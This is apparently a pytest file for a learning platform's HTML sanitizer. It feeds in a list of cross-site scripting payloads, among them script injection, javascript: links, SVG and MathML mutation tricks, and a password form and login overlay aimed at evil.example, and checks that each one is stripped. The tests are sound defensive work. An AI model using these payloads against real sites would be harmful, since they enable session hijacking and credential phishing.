"""The one HTML policy: what lecturers and packages may put on a page, and what never gets through."""
from __future__ import annotations

import pytest

from lms.courses.sanitize import clean_html, is_allowed_video_url, render_markdown

HOSTILE = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<p onmouseover="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>body{display:none}</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:white">Đăng nhập lại</div>',
    '<p style="transform:scale(100)">x</p>',
    '<div id="csrf_token" class="skip-link">x</div>',
    '<details open ontoggle=alert(1)>x</details>',
    '<!--<img src=x onerror=alert(1)>-->',
    '<scr<script>ipt>alert(1)</script>',
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_html_loses_everything_dangerous(source):
    cleaned = clean_html(source).html.lower()
    for needle in ("<script", "onerror", "onload", "onmouseover", "ontoggle", "javascript:", "vbscript:", "data:",
                   "<svg", "<math", "<style", "<object", "<embed", "<form", "<input", "<meta", "<base", "<link",
                   "position", "z-index", "transform", "srcdoc", "evil.example", "id=", "class="):
        assert needle not in cleaned, (source, cleaned)


def test_what_was_removed_is_named():
    result = clean_html('<p onclick="x()">a</p><script>b</script><a href="javascript:c">d</a>'
                        '<div style="position:absolute">e</div><iframe src="https://evil.example/f"></iframe>')
    messages = [str(m) for m in result.removed]
    assert messages == ["event handler attribute onclick removed", "<script> element removed",
                        "javascript: link removed", "style property position removed",
                        "embedded frame from evil.example removed"]
    assert result.html == "<p>a</p><a>d</a><div>e</div>"


def test_safe_teaching_content_survives():
    source = ('<h2>Tiêu đề</h2><p>Đoạn <strong>đậm</strong> <em>nghiêng</em> <code>mã</code></p>'
              '<ol start="3"><li>một</li></ol><ul><li>hai</li></ul>'
              '<table><caption>Bảng</caption><thead><tr><th scope="col">A</th></tr></thead>'
              '<tbody><tr><td colspan="2">1</td></tr></tbody></table>'
              '<img src="https://example.vn/a.png" alt="Hình" width="200">'
              '<blockquote>Trích dẫn</blockquote><p style="text-align: center; color: red">giữa</p>')
    result = clean_html(source)
    assert result.removed == []
    for kept in ("<h2>Tiêu đề</h2>", "<strong>đậm</strong>", '<ol start="3">', "<caption>Bảng</caption>",
                 '<th scope="col">A</th>', '<td colspan="2">1</td>', 'alt="Hình"', 'width="200"',
                 "<blockquote>Trích dẫn</blockquote>", "text-align: center;", "color: red;"):
        assert kept in result.html


def test_links_get_a_safe_rel_and_targets_are_tamed():
    html = clean_html('<a href="https://chinhphu.vn" rel="opener" target="evil">a</a><a href="#muc-1">b</a>').html
    assert html == ('<a href="https://chinhphu.vn" target="_blank" rel="noopener noreferrer nofollow">a</a>'
                    '<a href="#muc-1">b</a>')


def test_allow_listed_video_iframes_are_kept_and_sandboxed(app):
    html = clean_html('<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" '
                      'allowfullscreen onload="x()"></iframe>').html
    assert html.startswith('<iframe src="https://www.youtube.com/embed/abc" width="560" height="315"')
    assert 'sandbox="allow-scripts allow-same-origin allow-presentation"' in html and "onload" not in html
    assert is_allowed_video_url("https://player.vimeo.com/video/1")
    assert not is_allowed_video_url("http://www.youtube.com/embed/abc")  # not https
    assert not is_allowed_video_url("https://www.youtube.com.evil.example/embed")
    assert not is_allowed_video_url("https://user@www.youtube.com/embed/abc")
    app.config["COURSES_VIDEO_HOSTS"] = ["video.sonha.example.vn"]
    assert is_allowed_video_url("https://video.sonha.example.vn/v/1")
    assert not is_allowed_video_url("https://www.youtube.com/embed/abc")


def test_markdown_is_rendered_then_cleaned():
    result = render_markdown("# Bài 1\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[x](javascript:alert(1))\n\n"
                             "<b onmouseover=alert(1)>b</b>\n\n```\n<script>\n```\n")
    assert result.html.startswith("<h1>Bài 1</h1>")
    assert "<table>" in result.html and "javascript" not in result.html and "onmouseover" not in result.html
    assert "&lt;script&gt;" in result.html  # code blocks show the text, escaped
